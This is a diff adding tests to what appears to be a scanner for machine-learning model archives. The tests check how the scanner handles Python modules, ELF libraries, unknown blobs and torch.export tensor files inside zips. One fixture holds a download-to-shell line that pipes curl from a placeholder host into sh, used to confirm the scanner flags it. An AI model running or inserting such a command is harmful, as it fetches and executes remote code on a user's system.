@@ -173,6 +173,29 @@ describe('zip containers', () => {
     expect(f.format).toBe('pytorch-zip');
     expect(f.verdict).toBe('clean');
   });
+  it('reads members of no model format for what they are: a module, compiled code, unknown bytes', async () => {
+    const module = Buffer.from('import os\nos.system("curl -s https://example.invalid/x | sh")\n');
+    const code = await scanBytes(buildZip([{ name: 'repo/modeling_x.py', data: module }]));
+    expect(code.verdict).toBe('malicious');
+    expect(ruleIds(code)).toContain('python/download-to-shell');
+    const library = await scanBytes(buildZip([{ name: 'lib/libops.so', data: Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(60)]) }]));
+    expect(ruleIds(library)).toEqual(['file/compiled-code']);
+    const unknown = await scanBytes(buildZip([{ name: 'blob.bin', data: Buffer.from([0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3]) }]));
+    expect(unknown.verdict).toBe('error');
+    expect(ruleIds(unknown)).toEqual(['file/unrecognised-format']);
+  });
+  it('takes the raw tensor files a torch.export archive names in its configs as tensor bytes', async () => {
+    const config = { config: { weight: { path_name: 'weight_0', is_param: true, use_pickle: false } } };
+    const pt2 = (configured: string) =>
+      buildZip([
+        { name: 'm/archive_format', data: Buffer.from('pt2') },
+        { name: 'm/data/weights/model_weights_config.json', data: Buffer.from(JSON.stringify(config)) },
+        { name: `m/data/weights/${configured}`, data: Buffer.from([0xd4, 0x49, 0x9b, 0x3e, 0xfa, 0x24, 0xfb, 0xbe]) },
+      ]);
+    expect((await scanBytes(pt2('weight_0'))).verdict).toBe('clean');
+    // Bytes the config does not name are no tensor the loader reads: unknown, so not read.
+    expect((await scanBytes(pt2('weight_9'))).verdict).toBe('error');
+  });
   it('stops a zip bomb at the decompression limit', async () => {
     const f = await scanBytes(buildZip([{ name: 'archive/data.pkl', data: Buffer.alloc(64 * 1024 * 1024), deflate: true }]), {
       limits: { maxDecompressedBytes: 8 * 1024 * 1024 },
